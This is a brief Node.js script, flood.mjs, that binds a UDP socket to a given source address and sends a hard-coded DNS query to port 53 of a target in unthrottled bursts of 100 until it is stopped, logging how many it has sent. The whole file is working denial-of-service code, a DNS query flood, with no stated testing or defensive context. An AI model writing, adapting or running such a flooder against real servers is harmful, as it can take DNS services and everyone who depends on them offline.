// Sends questions as fast as it can, from the address that it is given, until it is killed; prints how many by now:
// node flood.mjs FROM TO
import { createSocket } from 'node:dgram';

const [, , from, to] = process.argv;
const question = Buffer.from('123401000001000000000000037765620000010001', 'hex');
const socket = createSocket('udp4');
socket.on('error', () => {});
socket.bind(0, from, () => {
  let sent = 0;
  const burst = () => {
    for (let n = 0; n < 100; n++) socket.send(question, 53, to, () => {});
    sent += 100;
    setImmediate(burst);
  };
  burst();
  setInterval(() => console.log(sent), 100);
});
